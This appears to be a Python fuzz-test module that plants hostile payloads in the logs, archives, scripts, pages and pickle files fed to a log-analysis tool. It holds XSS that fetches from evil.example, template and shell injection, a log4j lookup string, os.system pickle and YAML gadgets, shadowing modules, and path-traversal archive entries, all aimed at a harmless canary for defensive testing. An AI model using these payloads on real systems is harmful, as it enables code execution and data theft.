"""Builds hostile files: payloads for pages, tickets, shells, templates and unpicklers, in each place that holds a text."""

from __future__ import annotations

import io
import json
import pickle
import random
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

from builders.files.packing import tar_of, zip_of
from damage.kinds.registry import Files, NotApplicable, dumps, entries_of, load, texts
from fuzz.surroundings import CANARY

HOST = "evil.example"
"""The machine that every address in a payload leads to."""

_TOUCH = f"touch {CANARY}"
_PYTHON = f"__import__('os').system('{_TOUCH}')"

PAYLOADS = (
    f"<script>fetch('https://{HOST}/x')</script>",
    f"</script><script src=//{HOST}/x.js></script>",
    f'<img src="https://{HOST}/p.png" onerror=alert(1)>',
    f'"><svg onload=fetch("https://{HOST}/")><image href="https://{HOST}/p.svg"/>',
    f"'><iframe src='https://{HOST}/'></iframe><base href='https://{HOST}/'>",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f"</style><style>@import url(https://{HOST}/x.css); body{{background:url(https://{HOST}/p.png)}}</style>",
    f"x;background:url(https://{HOST}/p.png)",
    "javascript:fetch('//" + HOST + "')",
    f'![p](https://{HOST}/p.png) [press](https://{HOST}/ "x") <https://{HOST}/auto>',
    f"see https://{HOST}/run/1 and www.{HOST}/2",
    f"[press|https://{HOST}/] !https://{HOST}/p.png! {{html}}<b>x</b>{{html}} {{noformat}}",
    f"<https://{HOST}/|press> <!everyone> <!channel> <@U123> @here",
    f"``` ~~~\n```\nhttps://{HOST}/ ![p](https://{HOST}/p.png)\n",
    f"\x1b]8;;https://{HOST}/\x07press\x1b]8;;\x07 \x1b[2J\x1b[31mred",
    f"{{{{ cycler.__init__.__globals__.os.system('{_TOUCH}') }}}}",
    f"{{% for c in ().__class__.__base__.__subclasses__() %}}{{{{ c('{_TOUCH}', shell=True) }}}}{{% endfor %}}",
    "{0.__class__.__init__.__globals__} %(x)s %s%n ${jndi:ldap://" + HOST + "/a}",
    f"$({_TOUCH}) `{_TOUCH}` ; {_TOUCH} # | {_TOUCH} && {_TOUCH}",
    f"'; {_TOUCH}; '",
    f'"; {_TOUCH}; "',
    f"-oProxyCommand={_TOUCH} --output={CANARY}",
    _PYTHON,
    f"!!python/object/apply:os.system ['{_TOUCH}']",
    f"cos\nsystem\n(S'{_TOUCH}'\ntR.",
    f'=HYPERLINK("https://{HOST}/","press")',
    f"file:///etc/passwd \\\\{HOST}\\share smb://{HOST}/x",
    "\u202egnp.exe\u2066\u200b\ufeff\ud7ff",
    "\0\x01\x7f\x85\u2028\u2029\r\n\r\n",
    "9" * 400,
    "-1e999 nan 18446744073709551616 0x7fffffffffffffff",
    "A" * 70_000,
    "../" * 40 + "etc/passwd",
    "&lt;script&gt; &#60;img src=x&#62; %3Cscript%3E",
)
"""What stands in each place."""


def _line(rng: random.Random, files: Files, payload: str) -> Files:
    """On a line of a log."""
    path = _text(rng, files)
    rows = files[path].split(b"\n")
    rows.insert(rng.randrange(len(rows) + 1), f"2026-11-20 09:00:00 INFO note: {payload}".encode())
    return {path: b"\n".join(rows)}


def _message(rng: random.Random, files: Files, payload: str) -> Files:
    """Behind the message of each error, and of each timeout."""
    said = payload.replace("\n", " ").encode()
    return {
        path: b"\n".join(
            row + b" " + said if b"Error: " in row or b"before timing out" in row else row
            for row in files[path].split(b"\n")
        )
        for path in texts(files)
    }


def _step(rng: random.Random, files: Files, payload: str) -> Files:
    """In the last line of each log."""
    return {path: files[path] + f"saving to /data/{payload}\n".encode() for path in texts(files)}


def _name(rng: random.Random, files: Files, payload: str) -> Files:
    """As the name of a log beside the others."""
    return {f"{_as_name(payload)}.log": b"2026-11-20 09:00:00 INFO starting\n"}


def _folder(rng: random.Random, files: Files, payload: str) -> Files:
    """As the name of the folder of a log."""
    return {f"{_as_name(payload)}/{_as_name(payload)}.txt": b"2026-11-20 09:00:00 INFO starting\n"}


def _frames(rng: random.Random, files: Files, payload: str) -> Files:
    """In the stacks of all dumps."""
    return _in_dumps(files, lambda dump: _with_frames(dump, {"name": payload, "filename": payload, "line": 3}))


def _with_frames(dump: Any, frame: dict[str, Any]) -> None:
    for entry in entries_of(dump):
        entry["frames"] = [frame, *(entry.get("frames") or ())]


def _description(rng: random.Random, files: Files, payload: str) -> Files:
    """As the description of every process group."""

    def change(dump: Any) -> None:
        for groups in (dump.get("pg_config") or {}).values() if isinstance(dump, dict) else ():
            for one in [groups, *groups.values()] if isinstance(groups, dict) else ():
                if isinstance(one, dict) and "desc" in one:
                    one["desc"] = payload

    return _in_dumps(files, change)


def _stack(rng: random.Random, files: Files, payload: str) -> Files:
    """In a stack as a tool prints it."""
    text = f'Thread 0x00007f (most recent call first):\n  File "{payload}", line 3 in {payload}\n  File "/opt/train.py", line 9 in main\n'
    return {"stacks/late.txt": text.encode()}


def _settings(rng: random.Random, files: Files, payload: str) -> Files:
    """In scripts and settings beside the logs."""
    return {
        "settings.yaml": f"job: {payload}\nenv:\n  NCCL_SOCKET_IFNAME: {payload}\n".encode(),
        "start.sh": f"#!/bin/bash\nexport NCCL_DEBUG='{payload}'\nsrun python train.py --out {payload}\n".encode(),
        "nccldoctor.toml": f'catalogue = ["{_as_name(payload)}"]\n'.encode(),
    }


def _record(rng: random.Random, files: Files, payload: str) -> Files:
    """In each field of a record of JSON, as a collector of logs writes it."""
    record = {"time": "2026-11-20T09:00:00Z", "level": "info", "host": payload, "pod": payload, "message": payload}
    return {"collected.jsonl": (json.dumps(record) + "\n").encode() * 3}


def _member(rng: random.Random, files: Files, payload: str) -> Files:
    """As the name of a member of a zip, and as where a link in a tar leads."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
            info = tarfile.TarInfo("link")
            info.type, info.linkname = kind, payload[:90]
            archive.addfile(info)
    outside = {f"../{CANARY}": b"x", f"/{CANARY}": b"x", f"..\\{CANARY}": b"x"}
    name = payload.replace("\0", "")[:200]
    return {
        "more.zip": zip_of({name: b"step 1\n", **outside}),
        "more.tar": tar_of(outside),
        "links.tar": out.getvalue(),
    }


def _page(rng: random.Random, files: Files, payload: str) -> Files:
    """In a page, and in an earlier report, beside the logs."""
    page = f"<html><title>{payload}</title><body>{payload}</body></html>"
    report = json.dumps({"schema_version": "1.0", "tool": {"name": payload}, "verdict": {"headline": payload}})
    return {"page.html": page.encode(), "report.json": report.encode(), "note.ipynb": report.encode()}


def _code(rng: random.Random, files: Files, payload: str) -> Files:
    """As modules with names that others import."""
    text = f"{_PYTHON}\nMESSAGE = {payload!r}\n".encode()
    names = ("sitecustomize", "conftest", "json", "click", "numpy", "nccldoctor_plugin", "train")
    return {f"{name}.py": text for name in names}


def _pickle(rng: random.Random, files: Files, payload: str) -> Files:
    """In pickles that call a function, by every way to name one."""
    return {f"nccl_trace_rank_{at}": data for at, data in enumerate(_calling(rng, payload), 90)}


def _calling(rng: random.Random, payload: str) -> list[bytes]:
    """Three of the pickles that touch the canary where they are loaded as Python loads them."""
    touch, evil = _TOUCH.encode(), _PYTHON.encode()
    ways = [
        *(pickle.dumps({"entries": [_Calls(rng.choice(_GADGETS), payload)]}, protocol) for protocol in range(6)),
        b"cos\nsystem\n(S'" + touch + b"'\ntR.",
        b"(S'" + touch + b"'\nios\nsystem\n.",
        b"(cos\nsystem\nS'" + touch + b"'\no.",
        b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c" + bytes([len(touch)]) + touch + b"\x85R.",
        b"\x80\x02cbuiltins\neval\nX" + len(evil).to_bytes(4, "little") + evil + b"\x85R.",
        b"\x80\x02ccopyreg\n__newobj__\ncos\nsystem\n\x85R.",
        b"\x80\x02}(U\x07entries]cos\nsystem\nU" + bytes([len(touch)]) + touch + b"\x85Rau.",
        b"\x80\x02\x82\x01.\x80\x02P" + touch + b"\n.",
        b"\x80\x02Q.",
    ]
    return rng.sample(ways, 3)


class _Calls:
    def __init__(self, gadget: tuple[Callable[..., object], tuple[object, ...]], said: str) -> None:
        self.gadget, self.said = gadget, said

    def __reduce__(self) -> tuple[object, ...]:
        return (*self.gadget, {"said": self.said})


_GADGETS: tuple[tuple[Callable[..., object], tuple[object, ...]], ...] = (
    (eval, (_PYTHON,)),
    (exec, (_PYTHON,)),
    (__import__, ("antigravity",)),
    (open, (CANARY, "w")),
)


def _torch(rng: random.Random, files: Files, payload: str) -> Files:
    """In files that ``torch.save`` and numpy write, which hold pickles too."""
    code = _calling(rng, payload)[0]
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    array = b"\x93NUMPY\x01\x00" + (len(header) + 1).to_bytes(2, "little") + header + b"\n" + code
    return {
        "model.pt": zip_of({"model/data.pkl": code}, zipfile.ZIP_STORED),
        "x.npy": array,
        "x.pkl": code,
        "x.joblib": code,
    }


PLACES: Mapping[str, Callable[[random.Random, Files, str], Files]] = {
    work.__name__.strip("_"): work
    for work in (
        _line, _message, _step, _name, _folder, _frames, _description, _stack, _settings, _record, _member, _page, _code, _pickle, _torch
    )
}  # fmt: skip
"""Where payloads stand; each gives the files that it adds or replaces."""


def attacked(files: Files, number: int) -> tuple[str, Files]:
    """The files of a job with a payload in one place: every payload in every place in turn. What was done, and the files."""
    rng = random.Random(f"attack {number}")
    names = sorted(PLACES)
    place, turn = names[number % len(names)], number // len(names)
    payload = (number + turn) % len(PAYLOADS)
    return f"payload {payload} as {place}", files | PLACES[place](rng, files, PAYLOADS[payload])


def _text(rng: random.Random, files: Files) -> str:
    return rng.choice(texts(files))


def _as_name(payload: str) -> str:
    """The payload as a name that a file system takes."""
    return payload.replace("/", "\N{DIVISION SLASH}").replace("\0", "")[:60].strip(".") or "x"


def _in_dumps(files: Files, change: Callable[[Any], None]) -> Files:
    out = {}
    for path in dumps(files):
        try:
            dump = load(files[path])
        except NotApplicable:
            continue
        change(dump)
        out[path] = pickle.dumps(dump, protocol=2) if files[path][:1] == b"\x80" else json.dumps(dump).encode()
    return out
